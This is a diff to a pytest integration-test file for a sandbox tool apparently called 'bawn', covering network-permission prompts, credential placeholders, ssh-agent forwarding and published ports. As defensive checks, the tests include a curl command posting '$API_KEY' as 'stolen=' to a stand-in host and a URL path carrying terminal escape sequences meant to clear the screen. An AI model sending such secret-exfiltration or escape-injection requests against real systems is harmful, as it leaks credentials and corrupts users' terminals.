@@ -188,13 +188,20 @@ class Screen:
         return self.tmux("capture-pane", "-p")
 
     def see(self, pattern):
-        return until(lambda: re.search(pattern, text := self.show(), re.M) and text, pattern)
+        try:
+            return until(lambda: re.search(pattern, text := self.show(), re.M) and text)
+        except AssertionError:
+            pytest.fail(f"{pattern!r} never came:\n{self.show()}")
 
     def answer(self, pattern, key):
-        """As a person does, who reads the question first (ASKER_DEAF_MS)."""
+        """As a person does, who reads the question first (ASKER_DEAF_MS), and tries again if nothing came of it."""
         self.see(pattern)
-        time.sleep(0.35)
-        self.tmux("send-keys", key)
+        while re.search(pattern, self.show(), re.M):
+            time.sleep(0.35)
+            self.tmux("send-keys", key)
+            end = time.monotonic() + 2
+            while re.search(pattern, self.show(), re.M) and time.monotonic() < end:
+                time.sleep(0.02)
 
     def close(self):
         subprocess.run(["tmux", "-L", self.socket, "kill-server"], capture_output=True)
@@ -209,7 +216,7 @@ def top(net):
 
 def test_questions_in_top(net, box, top):
     """A key there lets the connection through, or not; the verdict scrolls by. Names of hosts and paths stay in their line."""
-    net.rules({"action": "ask", "host": "ok.example.com", "paths": ["/a/**"]})
+    net.rules({"action": "ask", "host": "ok.example.com", "paths": ["/a/**"]}, {"action": "allow", "host": "ok.example.com"})
     box.start("--ask", "wait")
     top.see("^box +running")
     p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
@@ -234,10 +241,12 @@ def test_questions_in_top(net, box, top):
     assert pending(net)[0]["host"] == first
     top.answer(f"^box  {first}:80", "d")
     assert sorted(p.communicate()[0] for p in two) == [b"200", b"403"]
-    # a path that would clear the screen
-    p = box.begin("curl -sg --noproxy '*' -o /dev/null -w '%{http_code}' 'http://ok.example.com/a/%1b[2J%1b[H%0aEVIL'")
-    top.answer("^box  ok.example.com:80 GET /a/%1b.2J", "w")
-    assert p.communicate()[0] == b"200"
+    # a path that would clear the screen is refused without a question
+    assert box.status("-g 'http://ok.example.com/a/%1b[2J%1b[H%0aEVIL'") == "400"
+    top.see("box  deny   ok.example.com:80 GET /a/")
+    p = box.begin("curl -s --noproxy '*' -o /dev/null -w '%{http_code}' http://ok.example.com/a/%C3%A9")
+    top.answer("^box  ok.example.com:80 GET /a/", "w")
+    assert p.communicate()[0] == b"200" and box.status("http://ok.example.com/a/%C3%A9") == "200"
     shown = top.show()
     assert shown.startswith("bawn top ") and not re.search("^EVIL", shown, re.M)
     assert [e["what"] for e in map(json.loads, (box.state / "audit/user.jsonl").read_text().splitlines()) if e["type"] == "policy"] == [
@@ -248,9 +257,154 @@ def test_a_key_that_came_too_soon(net, box, top):
     """Claim: a key that was pressed before its question could be read answers nothing."""
     box.start("--ask", "wait")
     top.see("^box +running")
-    p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
-    while not pending(net):  # the keys of somebody who hammers on them, until the question comes
-        top.tmux("send-keys", "o")
-    assert net.hits() == []
-    top.answer("^box  other.example.com:80", "d")
-    assert p.communicate()[0] == b"403" and net.hits() == []
+    hammered = False
+    while not hammered:
+        p = box.begin(f"curl -s --noproxy '*' -o /dev/null -w '%{{http_code}}' {OTHER}")
+        until(lambda: pending(net))
+        looked, sent, shown = time.monotonic(), 0, ""
+        while "may it connect" not in shown:  # somebody hammers on the key
+            before, looked = looked, time.monotonic()
+            shown = top.show()
+            top.tmux("send-keys", "o")
+            sent = time.monotonic()
+        hammered = sent - before < 0.25  # else this machine is too busy to say what came when
+        assert not hammered or (len(pending(net)) == 1 and net.hits() == [])
+        for question in pending(net):
+            policy(net, "reject", question["ask"])
+        assert p.communicate()[0] == b"403" or not hammered
+
+
+# Credentials
+
+def authority(box):
+    """The sandbox's own, as programs find it, and as browsers do."""
+    r = box.x("sha256sum < /etc/ssl/certs/ca-certificates.crt; certutil -L -d sql:$HOME/.pki/nssdb -n \"$(certutil -L -d sql:$HOME/.pki/nssdb | "
+              "sed -n 's/ *[CTcPpuw]*,[CTcPpuw]*,[CTcPpuw]* *$//p' | tail -1)\" -a | openssl x509 -noout -fingerprint -sha256")
+    assert r.rc == 0 and b"Fingerprint" in r.out, r
+    return r.out.decode().splitlines()
+
+
+NODE = "fetch('https://ok.example.com/node', {headers: {'x-api-key': process.env.API_KEY}}).then(r => console.log(r.status), e => console.log(String(e.cause)))"
+REQUESTS = ('curl -sS -o /dev/null -w "%{http_code}\\n" -H "x-api-key: $API_KEY" https://ok.example.com/curl && '
+            f"env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY node -e {shlex.quote(NODE)}")
+
+
+def is_nowhere(net, box):
+    """In no process of the sandbox, and no file that these see; but the broker has it."""
+    needles = scan.Needles(REAL)
+    within = scan.processes(box.keeper())
+    assert len(within) >= 2
+    assert [f for pid, name in within.items() for f in scan.process(pid, name, needles)] + scan.inside(within, needles, net.runner.workspace) == []
+    broker = box.helper("bawn-broker")
+    assert any("memory" in f for f in scan.process(broker, "bawn-broker", needles)), "the scanner does not find what is there"
+
+
+def test_credentials_over_a_restart(net, box):
+    """Claim: the value is never in a kept sandbox, in its folder or in its logs; the placeholder is the same in its next life, its CA another."""
+    secret_tools.define(net, "key", **KEY)
+    lives = []
+    for _ in range(2):
+        box.start(*([] if lives else ["--allow", "ok.example.com"]), env={"REAL_KEY": REAL})
+        assert net.bawn("exec", "-d", "box", "--", "sleep", "1000", env={"REAL_KEY": REAL}).rc == 0
+        r = box.x(REQUESTS, env={"REAL_KEY": REAL})  # who executes does not bring it in either
+        assert (r.rc, r.out) == (0, b"200\n200\n"), r
+        assert [dict(h["headers"])["x-api-key"] for h in net.hits(kind="request")] == [REAL] * 2
+        if lives:  # with all that the first one left
+            is_nowhere(net, box)
+        lives.append((box.x("echo $API_KEY").out, *authority(box)))
+        net.forget()
+        box.stop()
+    (first, *old), (second, *new) = lives
+    assert first == second and len(first) > 20
+    assert old[0] != new[0] and old[1] != new[1], "the certificate authority of the last life is still trusted"
+    assert scan.tree(box.state, scan.Needles(REAL)) == [], "it is in a file of ours"
+    used = box.audit("secret")
+    assert [(e["action"], e["secret"], e["host"]) for e in used] == [("allow", "key", "ok.example.com")] * 4
+
+
+def test_a_placeholder_elsewhere(net, box):
+    """Claim: what leaves with a placeholder to another host is blocked and in the audit log, whichever command sends it."""
+    secret_tools.define(net, "key", **KEY)
+    box.start(allow=["ok.example.com", "other.example.com"], env={"REAL_KEY": REAL})
+    r = box.x('curl -s -o /dev/null -w "%{http_code}" -d "stolen=$API_KEY" https://other.example.com/')
+    assert r.out == b"403", r
+    word = box.x("echo $API_KEY").out.decode().strip()
+    r = box.x(f"curl -s -o /dev/null -w '%{{http_code}}' -d stolen={word} https://other.example.com/")  # on the command line, too
+    assert r.out == b"403" and net.hits(kind="request") == [], r
+    refused = [e for e in box.audit("network") if e.get("code") == "BAWN_NET_SECRET_MISPLACED"]
+    assert [(e["action"], e["host"]) for e in refused] == [("deny", "other.example.com")] * 2
+    assert box.status("https://other.example.com/") == "200"
+
+
+# ssh-agent and ports
+
+@pytest.fixture(scope="module")
+def server(inter_net):
+    s = ssh_tools.Sshd(inter_net)
+    yield s
+    s.end()
+
+
+@pytest.fixture
+def me(net):
+    user = ssh_tools.User(net)
+    yield user
+    user.stop()
+
+
+def test_ssh_agent(net, box, server, me):
+    """The agent of whoever started it: each command can log in, one that was started anew is found again, the keys stay outside."""
+    host = "git.example.com"
+    me.know(server.known(host, "ed25519"))
+    login = f"ssh -o BatchMode=yes git@{host} echo in"
+    box.start(allow=[f"{host}:22"], env=me.env)
+    before = server.logins()
+    for _ in range(2):
+        r = box.x(login)
+        assert (r.rc, r.out) == (0, b"in\n"), r
+    me.stop()
+    assert box.x(login).rc == 255 and server.logins() == before + 2
+    me.start()
+    assert box.x(login).out == b"in\n"
+    box.stop()
+    box.start(env=me.env)
+    assert box.x(login).out == b"in\n" and server.logins() == before + 4
+    used = [e for e in box.audit("secret") if e["action"] == "allow"]
+    assert [(e["secret"], e["host"]) for e in used] == [(f"ssh {me.fingerprint('me@laptop')}", host)] * 4
+
+
+SERVE = "exec /usr/bin/python3 -c \"import socket; s = socket.create_server(('127.0.0.1', 3000)); print('up', flush=True)\nwhile True: s.accept()[0].sendall(b'{}')\""
+
+
+def answer_of(net, port):
+    r = net.outside("/usr/bin/python3", "-c", f"""
+import socket
+try:
+    print(socket.create_connection(("127.0.0.1", {port})).recv(100).decode() or "closed")
+except OSError as e:
+    print(type(e).__name__)
+""")
+    assert r.rc == 0, r
+    return r.out.decode().strip()
+
+
+def test_published_ports(net, box):
+    """They belong to the sandbox, not to a command: the server of one command gives way to the next one's, and both ends are free after a stop."""
+    box.start("--publish", "3000:8080")
+    for word in ("first", "second"):
+        p = box.begin(SERVE.format(word))
+        assert p.stdout.readline() == b"up\n"
+        assert answer_of(net, 8080) == word
+        p.terminate()
+        p.communicate()
+        assert answer_of(net, 8080) in ("closed", "ConnectionResetError")
+    box.stop()
+    assert answer_of(net, 8080) == "ConnectionRefusedError"
+    box.start()
+    p = box.begin(SERVE.format("third"))
+    assert p.stdout.readline() == b"up\n" and answer_of(net, 8080) == "third"
+    r = net.bawn("start", "thief", "--publish", "3000:8080")
+    assert r.rc == 125 and b"8080" in r.err, r
+    assert answer_of(net, 8080) == "third"
+    p.kill()
+    p.communicate()
